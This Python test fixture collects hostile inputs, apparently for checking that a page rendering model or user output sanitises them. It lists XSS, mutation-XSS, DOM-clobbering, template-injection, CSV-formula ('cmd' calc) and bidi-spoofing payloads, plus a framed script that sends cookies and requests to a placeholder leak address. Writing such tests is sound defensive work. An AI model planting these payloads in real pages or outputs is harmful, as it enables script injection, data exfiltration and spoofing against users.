"""What a model, a submitter or an endpoint may write to do harm: one row each.

LEAK stands for an address that must never be asked; HARM for script that marks the page.
"""

# ruff: noqa: E501 - a payload is one line, however long

from __future__ import annotations

MARK = "document.documentElement.dataset.harmed=1"
HARM = f"alert(1);fetch('LEAK');top.{MARK};{MARK}"

ROWS: dict[str, str] = {
    "script": f"<script>{HARM}</script>",
    "script-src": "<script src=LEAK></script><script type=module src=LEAK></script>",
    "img-error": f'<img src="LEAK" onerror="{HARM}">',
    "img-srcset": '<img srcset="LEAK 1x, LEAK?2 2x"><picture><source srcset=LEAK></picture>',
    "svg-load": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{HARM}"><image href="LEAK"/></svg>',
    "svg-script": f'<svg xmlns="http://www.w3.org/2000/svg"><script>{HARM}</script></svg>',
    "svg-animate": f'<svg><a><animate attributeName=href values="javascript:{HARM}"/><text>x</text></a></svg>',
    "svg-use": '<svg><use href="LEAK#x"/><filter><feImage href="LEAK"/></filter></svg>',
    "svg-foreign": f"<svg><foreignObject><iframe srcdoc='<script>{HARM}</script>'></iframe></foreignObject></svg>",
    "iframe": f'<iframe src="LEAK" srcdoc="<script>{HARM}</script>"></iframe>',
    "object": '<object data="LEAK"></object><embed src="LEAK"><applet code=LEAK></applet>',
    "style": "<style>body{background:url(LEAK)}@import 'LEAK';*{display:none!important}</style>",
    "link": "<link rel=stylesheet href=LEAK><link rel=prefetch href=LEAK><link rel=preload as=image href=LEAK>",
    "dns": "<link rel=dns-prefetch href=LEAK><link rel=preconnect href=LEAK>",
    "style-attribute": '<div style="position:fixed;inset:0;background:url(LEAK)">over</div>',
    "refresh": '<meta http-equiv="refresh" content="0;url=LEAK">',
    "policy": "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "base": '<base href="LEAK"><a href="next">relative</a>',
    "form": f'<form action="LEAK"><button autofocus onfocus="{HARM}">x</button></form><script>document.forms[0].submit()</script>',
    "formaction": '<form id=f></form><button form=f formaction="LEAK">go</button>',
    "javascript-link": f"<a href=\"javascript:{HARM}\">a</a> [b](javascript:alert(1)) [c](JaVaScRiPt:alert(1))",
    "data-link": "<a href='data:text/html,<script>alert(1)</script>'>a</a> [b](data:text/html,x)",
    "markdown-image": "![pixel](LEAK) ![r][x]\n\n[x]: LEAK",
    "markdown-relative": "[home](/accounts/logout/) [host](//evil.example/x) [back](\\\\evil.example\\x)",
    "markdown-html": f"<div>\n\n<script>{HARM}</script>\n\n</div>\n\n<x onclick=alert(1)>",
    "markdown-autolink": "<javascript:alert(1)> <LEAK> <data:text/html,x>",
    "markdown-fence": f"```html\n<script>{HARM}</script>\n```\n````\n</code></pre><script>{HARM}</script>",
    "break-out": f"</pre></div></article></main></body><script>{HARM}</script>",
    "break-attribute": f"\"'><script>{HARM}</script><x a=\"",
    "break-json": f"</script><script>{HARM}</script>",
    "break-comment": f"--><script>{HARM}</script><!--",
    "break-template": "{{ run.entry.endpoint.encrypted_key }}{% include 'x' %}{# #}${7*7}<%= 7 %>",
    "mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;<script>{HARM}</script>">',
    "mutation-noscript": f'<noscript><p title="</noscript><script>{HARM}</script>">',
    "mutation-template": f"<template><script>{HARM}</script></template><xmp><script>{HARM}</script></xmp>",
    "clobber": "<a id=body name=forms></a><img name=getElementById><form id=replay><input name=attributes>",
    "our-hooks": '<div id="step-1" data-step data-act="t" data-live="LEAK" data-copy="#x" data-walk data-next="LEAK" data-frame>',
    "our-classes": '<p class="verdict-line is-passed"><b>Passed:</b> everything</p>',
    "dialog": "<dialog open class=help>mine</dialog><details open ontoggle=alert(1)><summary>x</summary></details>",
    "events": f'<video src=LEAK onerror="{HARM}"></video><audio src=LEAK></audio><body onload="{HARM}" onhashchange="{HARM}">',
    "marquee": f'<marquee onstart="{HARM}">x</marquee><input autofocus onfocus="{HARM}"><select autofocus onfocus="{HARM}">',
    "custom": "<x-y is=z slot=a><button commandfor=replay command=show-modal popovertarget=x>x</button></x-y>",
    "jupyter": '<button data-commandlinker-command="x" data-commandlinker-args="{}">x</button>',
    "terminal": "\x1b]8;;LEAK\x07link\x1b]8;;\x07\x1b]0;title\x07\x1b[2J\x1b[9;9H\u202e\x00\x08 back",
    "bidi": "\u202e\u2066gnp.exe\u2069\u200b\ufeff\u200f",
    "surrogate": "\ud800<script>alert(1)</script>\udfff\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "utf7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &#x3c;img src=x onerror=alert(1)&#x3e;",
    "csv-formula": "=HYPERLINK(\"LEAK\"),+cmd|' /C calc'!A0,@SUM(1)",
    "deep": "<div>" * 3000 + "deep",
    "many-attributes": "<p " + " ".join(f"a{i}=1" for i in range(2000)) + ">x",
}  # fmt: skip

# A page that tries everything a frame could reach.
FRAMED = """<!doctype html><title>framed</title><body><script>
const tried = [];
const attempts = {
  parent: () => { parent.document.documentElement.dataset.harmed = 1; },
  top: () => { top.location = 'LEAK?top'; },
  cookie: () => { if (document.cookie) parent.postMessage(document.cookie, '*'); },
  storage: () => localStorage.setItem('harmed', 1),
  fetch: () => fetch('LEAK?fetch').catch(() => {}),
  ours: () => fetch('/board.json').catch(() => {}),
  beacon: () => navigator.sendBeacon('LEAK?beacon'),
  request: () => { const r = new XMLHttpRequest(); r.open('GET', 'LEAK?xhr'); r.send(); },
  socket: () => new WebSocket('LEAK?socket'.replace('http', 'ws')),
  events: () => new EventSource('LEAK?events'),
  image: () => { new Image().src = 'LEAK?image'; },
  style: () => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'LEAK?css' })),
  script: () => document.head.append(Object.assign(document.createElement('script'), { src: 'LEAK?script' })),
  frame: () => document.body.append(Object.assign(document.createElement('iframe'), { src: 'LEAK?frame' })),
  object: () => document.body.append(Object.assign(document.createElement('object'), { data: 'LEAK?object' })),
  font: () => new FontFace('x', 'url(LEAK?font)').load().catch(() => {}),
  worker: () => new Worker('LEAK?worker'),
  service: () => navigator.serviceWorker.register('LEAK?service').catch(() => {}),
  popup: () => window.open('LEAK?popup'),
  form: () => { const f = document.createElement('form'); f.action = 'LEAK?form'; document.body.append(f); f.submit(); },
  target: () => { const a = document.createElement('a'); a.href = 'LEAK?target'; a.target = '_top'; document.body.append(a); a.click(); },
  alert: () => alert(1),
};
for (const [name, attempt] of Object.entries(attempts)) { try { attempt(); } catch { /* refused */ } tried.push(name); }
document.body.dataset.tried = tried.length;
</script></body>"""

# One that leaves its frame's address behind.
LEAVING = "<title>leaving</title><script>location = 'LEAK?itself';</script>"
